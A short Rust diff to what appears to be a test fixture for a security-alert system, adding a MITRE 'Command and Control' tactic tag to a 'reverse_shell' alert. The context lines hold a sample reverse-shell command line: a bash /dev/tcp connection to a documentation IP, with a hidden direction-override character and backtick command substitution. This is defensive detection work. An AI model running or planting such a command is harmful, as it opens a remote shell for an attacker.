@@ -105,6 +105,7 @@ fn reverse_shell(raised_at: Timestamp) -> Alert {
         level: Level::Serious,
         raised_at,
         source_ip: Some("198.51.100.23".to_owned()),
+        tactics: [("TA0011".to_owned(), "Command and Control".to_owned())].into(),
         process: Some(SuspiciousProcess {
             command_line: "bash -c 'exec 3<>/dev/tcp/198.51.100.23/443;\u{202e}# ${IFS}`id`\\' \"&\""
                 .to_owned(),
